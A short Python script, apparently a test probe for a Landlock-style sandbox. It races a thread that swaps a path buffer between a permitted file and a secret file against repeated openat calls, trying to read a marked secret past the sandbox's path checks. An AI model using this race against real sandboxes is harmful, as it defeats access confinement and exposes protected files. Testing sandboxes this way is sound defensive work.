# row: toctou
# layer: landlock
# crosses: marker
# with: syscalls
import threading
import time


def main(target):
    fine, secret = os.__file__.encode(), target["secret"].encode()
    length = max(len(fine), len(secret)) + 1
    path = ctypes.create_string_buffer(fine, length)
    end = time.monotonic() + 1.0

    def flip():
        while time.monotonic() < end:
            ctypes.memmove(path, secret.ljust(length, b"\0"), length)
            ctypes.memmove(path, fine.ljust(length, b"\0"), length)

    threading.Thread(target=flip, daemon=True).start()
    while time.monotonic() < end:
        try:
            file = syscall("openat", AT_FDCWD, path, 0, 0)
        except OSError:
            continue
        text = os.read(file, 100)
        os.close(file)
        if text.startswith(b"MARK"):
            return text.decode()
    raise PermissionError("every open gave the file that may be read, or none")
